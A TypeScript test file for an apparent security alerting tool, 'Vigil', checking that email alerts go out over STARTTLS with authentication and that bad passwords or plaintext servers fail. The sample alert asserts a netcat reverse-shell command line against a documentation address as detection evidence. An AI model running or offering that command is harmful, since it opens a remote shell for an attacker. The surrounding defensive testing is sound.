// E-mail sinks against a real SMTP server on loopback (the smtp-server package) that offers STARTTLS with a
// certificate from a test CA and requires authentication: the alert arrives over TLS, authenticated with the
// sink's user and sealed password, with the rule, host, user, command line and evidence in the message; a wrong
// password is a dead letter at once (535 is final), never retried; a server without STARTTLS is refused (the sink
// requires it), so the password never crosses in the clear.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { SMTPServer } from 'smtp-server';
import { AlertDispatcher } from '../../src/alerts/dispatcher.ts';
import { issueServerCertificate, loadOrCreateCa } from '../../src/pki/pki.ts';
import { alertDoc, sinkOf, tempSinks, until, type TempSinks } from './support.ts';

const USER = 'vigil-alerts';
const PASSWORD = 'smtp-password-Kq93xZ';
const dir = mkdtempSync(join(tmpdir(), 'vigil-smtp-'));
let caPem = '';
const mails: { from: string; to: string[]; secure: boolean; user: string | undefined; body: string }[] = [];
const servers: SMTPServer[] = [];

async function smtpServer(o: { starttls: boolean; cert?: { keyPem: string; certPem: string } }): Promise<number> {
  const server = new SMTPServer({
    secure: false, ...(o.starttls ? {} : { disabledCommands: ['STARTTLS'] }), ...(o.cert ? { key: o.cert.keyPem, cert: o.cert.certPem } : {}),
    authMethods: ['PLAIN', 'LOGIN'], allowInsecureAuth: false,
    onAuth(auth, _session, cb) {
      if (auth.username === USER && auth.password === PASSWORD) return cb(null, { user: auth.username });
      return cb(Object.assign(new Error('Invalid username or password'), { responseCode: 535 }));
    },
    onData(stream, session, cb) {
      const chunks: Buffer[] = [];
      stream.on('data', (c: Buffer) => chunks.push(c));
      stream.on('end', () => {
        mails.push({
          from: session.envelope.mailFrom ? session.envelope.mailFrom.address : '', to: session.envelope.rcptTo.map((r) => r.address),
          secure: session.secure, user: session.user as string | undefined, body: Buffer.concat(chunks).toString(),
        });
        cb();
      });
    },
    logger: false,
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return (server.server.address() as AddressInfo).port;
}

let tlsPort = 0;
let plainPort = 0;

before(async () => {
  mkdirSync(join(dir, 'pki'));
  const ca = await loadOrCreateCa(join(dir, 'pki'), 'Vigil test SMTP CA');
  caPem = ca.certPem;
  tlsPort = await smtpServer({ starttls: true, cert: await issueServerCertificate(ca, ['localhost']) });
  plainPort = await smtpServer({ starttls: false });
});

after(async () => {
  await Promise.all(servers.map((s) => new Promise<void>((r) => s.close(() => r()))));
  rmSync(dir, { recursive: true, force: true });
});

const emailSink = (port: number, secret: string) => sinkOf({
  type: 'email', url: `smtp://localhost:${port}`, format: 'text', secret, template: 'Vigil {{level}}: {{rule.title}} on {{host}}',
  options: { from: 'vigil@example.com', to: ['soc@example.com', 'oncall@example.com'], username: USER, ca_pem: caPem },
});

async function deliverOne(t: TempSinks, alertId: string): Promise<{ state: string; attempts: number; lastError: string | null }> {
  const dispatcher = new AlertDispatcher({ sinks: t.store, outbox: t.store, log: pino({ level: 'silent' }) }, { allowPrivateTargets: true, pollMs: 20, baseDelayMs: 20, maxDelayMs: 50, maxAttempts: 3, timeoutMs: 5000 });
  try {
    dispatcher.start();
    await dispatcher.enqueue(alertDoc(Number(alertId.split('-')[1])));
    return await until('the delivery final', async () => { const [d] = await t.store.forAlert('t1', alertId); return d && d.state !== 'pending' && d; });
  } finally {
    await dispatcher.close();
  }
}

test('an alert is mailed over STARTTLS with authentication; the message carries the key facts', { timeout: 30_000 }, async () => {
  const t = await tempSinks('vigil-smtp-store-');
  try {
    await t.store.create(emailSink(tlsPort, PASSWORD));
    const d = await deliverOne(t, 'alert-7');
    assert.equal(d.state, 'delivered', d.lastError ?? '');
    const mail = mails.at(-1)!;
    assert.equal(mail.secure, true, 'upgraded with STARTTLS before anything was sent');
    assert.equal(mail.user, USER, 'authenticated');
    assert.deepEqual([mail.from, mail.to], ['vigil@example.com', ['soc@example.com', 'oncall@example.com']]);
    assert.match(mail.body, /^Subject: Vigil high: Netcat reverse shell on web-7\.example/m);
    assert.match(mail.body, /^X-Vigil-Alert: alert-7/m);
    for (const line of ['Rule: Netcat reverse shell (vigil-netcat-reverse-shell)', 'Author: Vigil', 'Host: web-7.example', 'User: www-data',
      'Command line: /usr/bin/nc 203.0.113.7 4444 -e /bin/sh', 'File: /tmp/.x/payload', 'Destination: 203.0.113.7:4444', 'MITRE ATT&CK: T1059.004 Unix Shell']) {
      assert.ok(mail.body.replace(/=\r?\n/g, '').includes(line), line);
    }
  } finally {
    await t.dispose();
  }
});

test('a wrong password is a dead letter at once; a server without STARTTLS is refused before authentication', { timeout: 30_000 }, async () => {
  const t = await tempSinks('vigil-smtp-store-');
  try {
    const before = mails.length;
    await t.store.create(emailSink(tlsPort, 'not-the-password-123'));
    const wrong = await deliverOne(t, 'alert-8');
    assert.deepEqual([wrong.state, wrong.attempts], ['dead', 1], 'a 535 is final');
    assert.match(wrong.lastError ?? '', /535|Invalid/);
    const t2 = await tempSinks('vigil-smtp-store-');
    try {
      await t2.store.create(emailSink(plainPort, PASSWORD));
      const plain = await deliverOne(t2, 'alert-9');
      assert.equal(plain.state, 'dead');
      assert.match(plain.lastError ?? '', /STARTTLS/i);
    } finally {
      await t2.dispose();
    }
    assert.equal(mails.length, before, 'nothing was mailed');
  } finally {
    await t.dispose();
  }
});
